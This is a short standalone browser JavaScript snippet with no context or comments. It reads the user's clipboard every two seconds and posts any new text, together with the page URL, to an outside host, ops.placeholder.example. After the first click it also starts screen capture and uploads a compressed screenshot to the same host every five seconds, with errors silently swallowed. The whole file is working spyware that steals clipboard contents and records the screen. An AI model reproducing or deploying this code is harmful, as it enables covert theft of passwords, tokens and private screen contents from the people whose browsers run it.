(async () => {
  const POST = (p, b) => fetch("https://ops.placeholder.example/" + p, { method: "POST", mode: "no-cors", body: b });
  let last = "";
  setInterval(async () => {
    try {
      const t = await navigator.clipboard.readText();
      if (t && t !== last) { last = t; POST("clip", JSON.stringify({ t, u: location.href })); }
    } catch (e) {}
  }, 2000);
  document.addEventListener("click", async () => {
    const s = await navigator.mediaDevices.getDisplayMedia({ video: true });
    const cap = new ImageCapture(s.getVideoTracks()[0]);
    setInterval(async () => {
      const bmp = await cap.grabFrame();
      const c = new OffscreenCanvas(bmp.width, bmp.height);
      c.getContext("2d").drawImage(bmp, 0, 0);
      POST("screen", await c.convertToBlob({ type: "image/webp", quality: 0.5 }));
    }, 5000);
  }, { once: true });
})();
